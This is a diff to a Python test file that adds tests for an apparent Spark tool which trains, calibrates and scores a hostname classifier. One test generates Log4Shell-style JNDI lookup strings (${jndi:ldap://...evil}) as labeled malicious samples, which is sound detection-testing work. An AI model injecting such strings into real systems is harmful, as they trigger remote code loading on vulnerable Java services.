@@ -87,3 +87,37 @@ def test_commands(spark, release, tmp_path):
     with pytest.raises(SystemExit):
         jobs.main(["verify", "--private", str(d / "private"), "--release", str(d / "public"), "--out", str(tmp_path / "v.json"), "--config", str(d / "keys.yaml")])
     assert json.loads((tmp_path / "v.json").read_text())["sections"]["access_patterns"]["status"] == "fail"
+
+
+def test_grouped_scoring_by_commands(spark, tmp_path):
+    from axisflow.plans import cli
+
+    put = lambda name, lines: (tmp_path / name).write_text("\n".join(lines) + "\n") and str(tmp_path / name)
+    benign = put("benign.txt", [f"host{i}.example.com" for i in range(40)])
+    bad = put("bad.csv", ["hostname,family", *(f"${{jndi:ldap://x{i}.evil}},jndi" for i in range(20))])
+    groups = put("groups.txt", [f"g{i % 2}" for i in range(40)])
+    model = str(tmp_path / "model")
+    cli.main(["train-priors", "--model", model, "--benign", benign, "--malicious", bad, "--dim", "16", "--cones", "32", "--alpha", "0.1"])
+    cli.main(["calibrate", "--model", model, "--hosts", benign, "--groups", groups, "--approximate", "4"])
+    with pytest.raises(SystemExit, match="groups"):
+        cli.main(["score", "--model", model, "--hosts", benign, "--out", str(tmp_path / "s0")])
+    cli.main(["score", "--model", model, "--hosts", benign, "--groups", groups, "--out", str(tmp_path / "s"), "--no-idna", "--unicode-form", "NFC"])
+    rows = spark.read.option("header", True).csv(str(tmp_path / "s"))
+    assert rows.columns == ["hostname", "calibration_group", "threshold", "score", "prediction"] and rows.count() == 40
+    assert rows.select("calibration_group", "threshold").distinct().count() == 2
+    cli.main(["refresh-benign", "--model", model, "--hosts", benign, "--groups", groups])
+    cli.main(["explain", "--model", model, "--hosts", benign, "--out", str(tmp_path / "e"), "--top", "2"])
+    assert spark.read.json(str(tmp_path / "e")).count() == 80
+    cli.main(["embed", "--hosts", benign, "--out", str(tmp_path / "v"), "--dim", "3", "--no-normalize"])
+    vectors = spark.read.option("header", True).csv(str(tmp_path / "v"))
+    assert vectors.columns == ["hostname", "e0", "e1", "e2"] and vectors.count() == 40 and len(vectors.first()["e0"].lstrip("-")) == 8
+
+
+def test_items_with_hooks(spark):
+    from pyspark.sql import functions as F
+
+    from axisflow.operators import labels
+
+    df = spark.createDataFrame([("user_logins", "Bob", "h", "M"), ("dns", "u", "H.example", "B"), ("dns", "u", None, "?")], "f string, u string, h string, l string")
+    got = labels.items(df, F.col("f"), F.col("u"), F.col("h"), F.col("l"), ["f"], F.lower, lambda t: t * 10).collect()
+    assert [(r["text"], r["label"], r["target"], r["metadata"]["f"]) for r in got] == [("bob", "M", 10, "user_logins"), ("h.example", "B", 0, "dns"), (None, "U", -10, "dns")]
